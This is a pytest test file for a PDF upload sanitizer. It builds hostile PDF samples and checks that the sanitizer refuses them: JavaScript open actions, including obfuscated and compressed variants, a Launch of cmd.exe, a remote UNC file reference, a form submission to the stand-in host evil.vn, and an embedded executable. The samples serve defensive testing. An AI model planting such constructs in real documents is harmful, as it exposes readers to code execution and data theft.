"""PDF files: kept as they came, or refused in words where they would do something of their own accord."""

import io
import zlib

import pypdfium2 as pdfium
import pytest
from pypdfium2 import raw

from vitreem.kernel.files import inspection, pdf_files
from vitreem.kernel.http.problems import Problem


def pdf(*objects: str | bytes, catalog: str = "", page: str = "", version: str = "1.5") -> bytes:
    """A document of one page; `objects` are numbered from 4."""
    body = [
        f"<</Type/Catalog/Pages 2 0 R{catalog}>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]{page}>>", *objects,
    ]  # fmt: skip
    out = f"%PDF-{version}\n".encode()
    places = []
    for number, one in enumerate(body, start=1):
        places.append(len(out))
        out += f"{number} 0 obj\n".encode() + (one if isinstance(one, bytes) else one.encode()) + b"\nendobj\n"
    at = len(out)
    rows = "".join(f"{place:010d} 00000 n \n" for place in places)
    tail = f"xref\n0 {len(places) + 1}\n0000000000 65535 f \n{rows}trailer\n<</Root 1 0 R/Size {len(places) + 1}>>\n"
    return out + tail.encode() + f"startxref\n{at}\n%%EOF\n".encode()


def stream(data: bytes, more: str = "") -> bytes:
    return f"<<{more}/Length {len(data)}>>stream\n".encode() + data + b"\nendstream"


def in_object_stream(inner: str) -> bytes:
    """The action lies in a compressed stream of objects, where the raw bytes show nothing."""
    packed = zlib.compress(f"6 0 {inner}".encode())
    rows = b"".join(
        bytes((kind, *place.to_bytes(4, "big"), index)) for kind, place, index in ((0, 0, 0), *_in_place(packed))
    )
    head = _numbered(packed)
    at = len(head)
    table = zlib.compress(rows)
    return head + (
        f"5 0 obj\n<</Type/XRef/W[1 4 1]/Size 7/Root 1 0 R/Filter/FlateDecode/Length {len(table)}>>stream\n".encode()
        + table + f"\nendstream\nendobj\nstartxref\n{at}\n%%EOF\n".encode()
    )  # fmt: skip


def _bodies(packed: bytes) -> list[bytes]:
    more = "/Type/ObjStm/N 1/First 4/Filter/FlateDecode"
    return [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>", stream(packed, more),
    ]  # fmt: skip


def _numbered(packed: bytes) -> bytes:
    out = b"%PDF-1.5\n"
    for number, one in enumerate(_bodies(packed), start=1):
        out += f"{number} 0 obj\n".encode() + one + b"\nendobj\n"
    return out


def _in_place(packed: bytes) -> list[tuple[int, int, int]]:
    head = _numbered(packed)
    found = [(1, head.index(f"{number} 0 obj\n".encode()), 0) for number in range(1, 5)]
    return [*found, (1, len(head), 0), (2, 4, 0)]


def encrypted(password: str) -> bytes:
    """Encrypted with RC4 of 40 bits and `password` to open it; inside stands a script."""
    import hashlib

    from cryptography.hazmat.decrepit.ciphers.algorithms import ARC4
    from cryptography.hazmat.primitives.ciphers import Cipher

    pad = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")

    def rc4(key: bytes, data: bytes) -> bytes:
        return Cipher(ARC4(key), None).encryptor().update(data)

    padded = (password.encode() + pad)[:32]
    owner = rc4(hashlib.md5(padded).digest()[:5], padded)
    key = hashlib.md5(padded + owner + (-4).to_bytes(4, "little", signed=True) + b"0123456789abcdef").digest()[:5]
    user = rc4(key, pad)
    made = pdf(catalog="/OpenAction<</S/JavaScript/JS 9 0 R>>")
    lock = f"<</Filter/Standard/V 1/R 2/O<{owner.hex()}>/U<{user.hex()}>/P -4>>"
    ident = b"0123456789abcdef".hex()
    return made.replace(b"<</Root 1 0 R", f"<</Encrypt{lock}/ID[<{ident}><{ident}>]/Root 1 0 R".encode())


def pages(count: int) -> bytes:
    document = pdfium.PdfDocument.new()
    for _ in range(count):
        document.new_page(200, 200)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def attached() -> bytes:
    document = pdfium.PdfDocument.new()
    document.new_page(200, 200)
    document.new_attachment("x.exe").set_data(b"MZ")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def refusal(data: bytes) -> tuple[str, str]:
    with pytest.raises(Problem) as raised:
        inspection.clean(data)
    return raised.value.code, raised.value.extra.get("what", "")


LINK = "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<<{}>>>>]"
HOSTILE = {
    "script at opening": ("scripts", lambda: pdf(catalog="/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>")),
    "script with a name in disguise": ("scripts", lambda: pdf(catalog="/OpenAction<</S/J#61v#61Script/J#53(x)>>")),
    "script among the names": ("scripts", lambda: pdf("<</S/JavaScript/JS(x)>>", catalog="/Names<</JavaScript<</Names[(a)4 0 R]>>>>")),
    "script in an object stream": ("scripts", lambda: in_object_stream("<</S/JavaScript/JS(x)>>")),
    "script of a page": ("scripts", lambda: pdf(page="/AA<</O<</S/JavaScript/JS(x)>>>>")),
    "script in a file with an empty password": ("scripts", lambda: encrypted("")),
    "XFA form": ("scripts", lambda: pdf(stream(b"<xdp/>"), catalog="/AcroForm<</XFA 4 0 R/Fields[]>>")),
    "launch": ("launch", lambda: pdf(page=LINK.format("/S/Launch/F(cmd.exe)"))),
    "launch in an object stream": ("launch", lambda: in_object_stream("<</S/Launch/Win<</F(cmd.exe)>>>>")),
    "file of a server": ("launch", lambda: pdf(catalog="/OpenAction<</S/GoToR/F(\\\\\\\\10.0.0.9\\\\x.pdf)/D[0/Fit]>>")),
    "form that sends": ("launch", lambda: pdf(page=LINK.format("/S/SubmitForm/F(http://evil.vn)"))),
    "embedded file": ("attachments", attached),
    "embedded file on a page": ("attachments", lambda: pdf("<</Type/Filespec/F(a)/EF<</F 5 0 R>>>>", stream(b"MZ", "/Type/EmbeddedFile"), page="/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 4 0 R>>]")),
    "Flash": ("attachments", lambda: pdf(page="/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]")),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_foreign_content(name):
    what, make = HOSTILE[name]
    assert refusal(make()) == ("foreign_content", what)


@pytest.mark.parametrize(
    "data",
    [
        pdf(), pages(2), pdf(page=LINK.format("/S/URI/URI(https://a.vn/JS/Launch\\(/EF\\))")),
        pdf(stream(b"BT (/JS /Launch) Tj ET /JavaScript"), page="/Contents 4 0 R"),
        pdf("<</Title(/JS /JavaScript)/Author<2F4A53>>>"), pdf("<</Title(a\\)/JS)>>"),
        pdf("<</JSX 1/LaunchPad 2/EF1 3>>", page="/Resources 4 0 R"), in_object_stream("<</S/GoTo/D[3 0 R/Fit]>>"),
        pdf(stream(b"\xff\xd8 /JS /Launch \xff\xd9", "/Subtype/Image/Filter/DCTDecode"), page="/Resources<</XObject<</A 4 0 R>>>>"),
    ],
    ids=range(9),
)  # fmt: skip
def test_honest_files_are_kept_as_they_came(data):
    assert inspection.clean(data).data == data


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"%PDF-1.7\n" + b"garbage " * 50, "broken_file"), (pdf()[:60], "broken_file"),
        (b"%PDF-1.7\n<script>alert(1)</script>", "broken_file"), (encrypted("mat-khau"), "protected_file"),
    ],
    ids=range(4),
)  # fmt: skip
def test_refused(data, code):
    assert refusal(data)[0] == code


def test_pages():
    assert inspection.clean(pages(1_000)).media_type == "application/pdf"
    assert refusal(pages(1_001))[0] == "too_many_pages"


def test_a_document_that_unpacks_without_end(monkeypatch):
    monkeypatch.setattr(pdf_files, "_MAX_WRITTEN", 300)
    assert refusal(pages(20))[0] == "zip_bomb"


def test_pdfium_knows_the_errors_by_these_numbers():
    assert (pdf_files._PASSWORD, pdf_files._SECURITY) == (raw.FPDF_ERR_PASSWORD, raw.FPDF_ERR_SECURITY)
